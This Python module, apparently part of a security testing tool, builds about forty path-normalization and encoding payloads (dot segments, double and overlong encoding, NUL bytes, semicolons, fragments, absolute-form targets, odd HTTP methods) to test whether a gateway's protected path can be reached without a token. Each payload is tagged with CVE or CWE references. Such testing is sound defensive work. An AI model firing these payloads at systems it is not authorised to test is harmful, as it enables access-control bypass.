"""Paths that one reader takes for an open one, and another for a protected one; none brings a token."""

from collections.abc import Callable
from typing import Final

from pillion.attack import wire
from pillion.attack.judge import judged
from pillion.attack.likeness import likeness
from pillion.attack.outcome import Attack, CannotBeTriedError, Family, Outcome
from pillion.attack.target import Target

_NORMAL: Final = "RFC 3986, section 6.2.2; CWE-22"
_ENCODED: Final = "CVE-2021-29492; CWE-177"
_PARAMETER: Final = "CVE-2020-13935; CWE-436"
_OVERLONG: Final = "RFC 3629, section 10; CWE-176"
_NUL: Final = "CWE-158"
_FORM: Final = "RFC 9112, section 3.2.2"


def _control(target: Target) -> str | None:
    likeness(target)
    return None


def _climb(step: str, slash: str = "/") -> Callable[[Target], str]:
    """Go from the open path up to the root by `step`, and down to the protected one."""

    def path(target: Target) -> str:
        open_, protected = target.places.open.path.rstrip("/"), target.places.protected.path
        ups = slash.join([step] * max(1, open_.count("/")))
        return f"{open_}{slash}{ups}{slash}{protected.lstrip('/')}"

    return path


def _protected(change: Callable[[str], str]) -> Callable[[Target], str]:
    return lambda target: change(target.places.protected.path)


def _both(join: str) -> Callable[[Target], str]:
    return lambda target: join.replace("OPEN", target.places.open.path).replace(
        "PROTECTED", target.places.protected.path
    )


def _percent(path: str, index: int) -> str:
    if index >= len(path):
        raise CannotBeTriedError(f"{path} has no letters")
    return f"{path[:index]}%{ord(path[index]):02x}{path[index + 1 :]}"


def _attack(name: str, reference: str, path: Callable[[Target], str]) -> Attack:
    def run(target: Target) -> Outcome:
        return likeness(target).judged(wire.ask(target.edge, f"GET {path(target)} HTTP/1.1"))

    return Attack(name, reference, "the protected path without a token, spelt otherwise", run)


def _method(method: str) -> Attack:
    def run(target: Target) -> Outcome:
        return judged(wire.request(target.edge, method, target.places.protected.path))

    tried = "the protected path without a token, by another method"
    return Attack(f"method {method}", "CWE-650; RFC 9110, section 9.1", tried, run)


_PATHS: Final[dict[str, tuple[str, Callable[[Target], str]]]] = {
    "dot segments": (_NORMAL, _climb("..")),
    "encoded dots": (_NORMAL, _climb("%2e%2e")),
    "encoded dots in capitals": (_NORMAL, _climb("%2E%2E")),
    "half encoded dots": (_NORMAL, _climb(".%2e")),
    "dots encoded twice": (_ENCODED, _climb("%252e%252e")),
    "encoded slashes": (_ENCODED, _climb("..", "%2f")),
    "slashes encoded twice": (_ENCODED, _climb("..", "%252f")),
    "backslashes": (_ENCODED, _climb("..", "\\")),
    "encoded backslashes": (_ENCODED, _climb("..", "%5c")),
    "dots with a semicolon": (_PARAMETER, _climb("..;")),
    "dots with a parameter": (_PARAMETER, _climb("..;x=1")),
    "dots with an encoded semicolon": (_PARAMETER, _climb("..%3b")),
    "overlong dots": (_OVERLONG, _climb("%c0%ae%c0%ae")),
    "overlong slashes": (_OVERLONG, _climb("..", "%c0%af")),
    "dots of full width": (_OVERLONG, _climb("%ef%bc%8e%ef%bc%8e")),
    "dots as %u002e": (_ENCODED, _climb("%u002e%u002e")),
    "dots with a NUL": (_NUL, _climb("..%00")),
    "dots with a tab": (_ENCODED, _climb("..%09")),
    "two slashes": ("CVE-2019-9901; CWE-22", _protected(lambda path: f"/{path}")),
    "two slashes within": ("CVE-2019-9901; CWE-22", _protected(lambda path: path.replace("/", "//"))),
    "a dot before": (_NORMAL, _protected(lambda path: f"/.{path}")),
    "a dot behind": (_NORMAL, _protected(lambda path: f"{path}/.")),
    "a slash behind": (_NORMAL, _protected(lambda path: f"{path}/")),
    "a semicolon behind": (_PARAMETER, _protected(lambda path: f"{path};x=1")),
    "a semicolon within": (_PARAMETER, _protected(lambda path: f"/;x=1{path}")),
    "an encoded letter": (_NORMAL, _protected(lambda path: _percent(path, 1))),
    "every letter encoded": (
        _NORMAL,
        _protected(lambda path: "/" + "".join(f"%{ord(c):02x}" for c in path[1:])),
    ),
    "capitals": ("CWE-178", _protected(str.upper)),
    "a NUL behind": (_NUL, _protected(lambda path: f"{path}%00")),
    "a space behind": (_ENCODED, _protected(lambda path: f"{path}%20")),
    "an encoded line end behind": (_ENCODED, _protected(lambda path: f"{path}%0a")),
    "an encoded question mark": (_ENCODED, _protected(lambda path: f"{path}%3f")),
    "a fragment": ("CVE-2021-32779; RFC 9112, section 3.2", _both("PROTECTED#OPEN")),
    "an open path with a fragment": ("CVE-2021-32779; RFC 9112, section 3.2", _both("OPEN#/../..PROTECTED")),
    "a query": (_NORMAL, _both("PROTECTED?OPEN")),
    "an asterisk": (_FORM, lambda _: "*"),
    "no slash": (_FORM, _protected(lambda path: path[1:])),
    "absolute form": (_FORM, lambda target: f"{target.origin}{target.places.protected.path}"),
    "absolute form of another host": (_FORM, _both("http://attack.invalidPROTECTED")),
    "absolute form with an open path for a host": (_FORM, _both("http://xOPEN/../..PROTECTED")),
}

FAMILY: Final = Family(
    "paths",
    _control,
    (
        *(_attack(name, reference, path) for name, (reference, path) in _PATHS.items()),
        *(_method(method) for method in ("get", "Get", "HEAD", "OPTIONS", "FOO", "CONNECT")),
    ),
)
